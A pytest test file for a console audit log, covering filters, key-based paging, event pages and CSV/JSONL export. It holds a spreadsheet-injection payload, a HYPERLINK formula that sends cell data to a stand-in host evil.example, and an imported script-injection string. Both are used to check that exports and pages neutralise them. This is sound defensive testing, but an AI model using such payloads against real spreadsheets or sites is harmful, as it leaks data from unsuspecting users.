"""The audit log in the console: filtered, paged by key, and exported as files safe to open."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest
from support.console import EVIL, ROOT, ConsoleClient, engine_of, words_of

from penstock import audit
from penstock.access import consumers, limits, variables
from penstock.contracts.rates import Rate
from penstock.db.engine import Engine
from penstock.db.tables import AuditEventRow
from penstock.db.unit_of_work import access_change
from penstock.testing import Runtime

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture
def runtime(console_runtime: Callable[..., Runtime]) -> Runtime:
    runtime = console_runtime()
    engine = engine_of(runtime)
    consumers.create_consumer(engine, "ann", "acme")
    limits.set_limit(engine, "oli", "acme", "test", Rate("5/minute"))
    variables.set_variable(engine, "oli", "prod", "region", FORMULA)
    return runtime


def many(engine: Engine, number: int, **values: object) -> None:
    usual = {
        "actor": "bot",
        "action": "key:created",
        "environment": "test",
        "subject": "acme",
        "detail": {},
        "at": datetime.now(UTC),
    }
    with access_change(engine) as rows:
        for _ in range(number):
            rows.add(
                AuditEventRow,
                {AuditEventRow.table.c[name]: value for name, value in (usual | values).items()},
            )


def listed(page: str) -> list[int]:
    return [int(number) for number in re.findall(r'href="/-/console/audit/(\d+)"', page)]


def test_events_are_filtered_by_actor_action_target_environment_and_time(runtime: Runtime) -> None:
    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
    many(engine, 1, actor="olga", at=datetime.now(UTC) - timedelta(hours=5))

    def actions(**query: str) -> list[str]:
        return [
            audit.event(engine, number).action for number in listed(vic.get("/audit", **query).text)
        ]

    assert actions(actor="oli") == ["variable:set", "limit:set"]
    assert actions(actor="olga") == ["key:created"]
    assert actions(actor="olga", since="1") == []
    assert actions(actor="olga", since="24") == ["key:created"]
    assert actions(action="limit:set") == ["limit:set"]
    assert actions(action="limit") == ["limit:set"]
    assert actions(subject="acme", action="consumer") == ["consumer:created"]
    assert actions(env="prod") == ["variable:set", "environment:created"]
    assert set(actions()) >= {
        "user:signed-in",
        "variable:set",
        "limit:set",
        "consumer:created",
        "key:created",
    }


def test_unknown_actions_and_spans_have_their_fault_beside_the_field(runtime: Runtime) -> None:
    vic = ConsoleClient.of(runtime, "vic")
    action, since, exported = (
        vic.get("/audit", action="limit:sett"),
        vic.get("/audit", since="x"),
        vic.get("/audit/export", format="xls"),
    )

    assert (action.status_code, since.status_code, exported.status_code) == (422, 422, 422)
    assert "did you mean limit:set?" in words_of(action.text)
    assert 'id="e-action"' in action.text
    assert 'id="e-since"' in since.text
    assert "isn't a format" in words_of(exported.text)
    assert (
        vic.get("/audit/99999999999999999999").status_code
        == vic.get("/audit/123456").status_code
        == 404
    )


def test_events_are_paged_by_key(runtime: Runtime) -> None:
    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
    many(engine, 120)
    numbers, path = list[int](), "/audit?actor=bot"
    while path:
        page = vic.get(path).text
        numbers += listed(page)
        match = re.search(r'href="/-/console([^"]+)" rel="next"', page)
        path = match[1].replace("&amp;", "&") if match else ""
        many(engine, 3)  # new events move nothing

    assert len(numbers) == 120
    assert numbers == sorted(set(numbers), reverse=True)


def test_the_page_of_an_event_shows_its_detail(runtime: Runtime) -> None:
    vic = ConsoleClient.of(runtime, "vic")
    (number,) = listed(vic.get("/audit", action="limit:set").text)
    page = words_of(vic.get(f"/audit/{number}").text)

    assert "oli limited acme to 5/minute by consumer in test" in page
    assert "Actor oli" in page
    assert "rate 5/minute by consumer pipelines none" in page
    assert "oli limited acme to 5/minute by consumer in test" in words_of(
        vic.get("/audit", action="limit:set").text
    )


def test_an_export_has_every_event_of_its_filters_and_no_formula(
    runtime: Runtime, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
    monkeypatch.setattr(audit, "EVENTS_PER_READ", 10)
    many(engine, 25, actor="+bot", subject="\tx", detail={"note": FORMULA})
    sheet = vic.get("/audit/export", format="csv", actor="+bot")
    lines = vic.get("/audit/export", format="jsonl", actor="+bot")
    rows = list(csv.DictReader(io.StringIO(sheet.text, newline="")))
    events = [json.loads(line) for line in lines.text.splitlines()]

    assert sheet.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert sheet.headers["X-Content-Type-Options"] == "nosniff"
    assert re.fullmatch(
        r'attachment; filename="penstock-audit-[\d-]+\.csv"', sheet.headers["Content-Disposition"]
    )
    assert len(rows) == len(events) == 25
    assert {(row["actor"], row["subject"]) for row in rows} == {("'+bot", "'\tx")}
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values()
    )
    assert {(event["actor"], event["detail"]["note"]) for event in events} == {("+bot", FORMULA)}
    assert [event["id"] for event in events] == sorted(
        {event["id"] for event in events}, reverse=True
    )


def test_an_export_is_streamed(runtime: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
    many(engine_of(runtime), 30)
    vic, limits_read = ConsoleClient.of(runtime, "vic"), list[int]()
    read_events = audit.events

    def counted(engine: Engine, *, limit: int, **more: object) -> list[audit.Event]:
        limits_read.append(limit)
        return read_events(engine, limit=limit, **more)  # type: ignore[arg-type]  # the filters of a page

    monkeypatch.setattr(audit, "EVENTS_PER_READ", 10)
    monkeypatch.setattr(audit, "events", counted)
    with vic.http.stream("GET", f"{ROOT}/audit/export?format=jsonl&actor=bot") as response:
        parts = response.iter_raw()
        next(parts)
        reads_at_first = len(limits_read)
        others = list(parts)

    assert (len(others), reads_at_first, len(limits_read)) == (29, 2, 5)


def test_stored_text_never_becomes_markup(runtime: Runtime) -> None:
    engine, vic = engine_of(runtime), ConsoleClient.of(runtime, "vic")
    many(
        engine,
        1,
        actor=EVIL,
        subject=EVIL,
        environment="test",
        detail={EVIL: [EVIL, {"a": EVIL}], "b": EVIL},
    )
    (number,) = listed(vic.get("/audit", actor=EVIL).text)
    pages = [
        vic.get("/audit").text,
        vic.get(f"/audit/{number}").text,
        vic.get("/audit", actor=EVIL, subject=EVIL, action=EVIL, env=EVIL, since=EVIL).text,
    ]

    assert all("window.owned" in page for page in pages)
    assert not any("<script>window" in page or "<img" in page for page in pages)
